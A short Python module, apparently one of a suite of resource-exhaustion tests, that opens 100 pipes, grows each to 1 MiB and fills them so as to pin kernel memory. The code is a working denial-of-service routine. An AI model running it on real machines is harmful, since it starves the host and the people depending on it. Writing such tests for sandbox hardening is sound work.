"""Takes the kernel's memory in pipes, made as large as they can be (here: 100)."""

import fcntl
import os

from attack import attack, held


@attack
def _():
    for _ in range(100):
        held.extend(os.pipe())
        fcntl.fcntl(held[-1], 1031, 1 << 20)  # F_SETPIPE_SZ
        os.set_blocking(held[-1], False)
        os.write(held[-1], bytes(1 << 20))
